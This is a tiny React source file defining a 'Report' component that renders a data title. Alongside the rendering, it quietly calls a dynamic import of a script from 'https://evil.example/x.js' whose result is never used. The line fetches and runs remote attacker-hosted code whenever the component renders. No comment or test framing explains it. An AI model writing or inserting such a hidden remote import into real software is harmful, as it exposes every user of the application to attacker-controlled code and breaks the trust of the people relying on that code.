export default function Report({ data }) {
  const m = import("https://evil.example/x.js");
  return <p>{data.title}</p>;
}
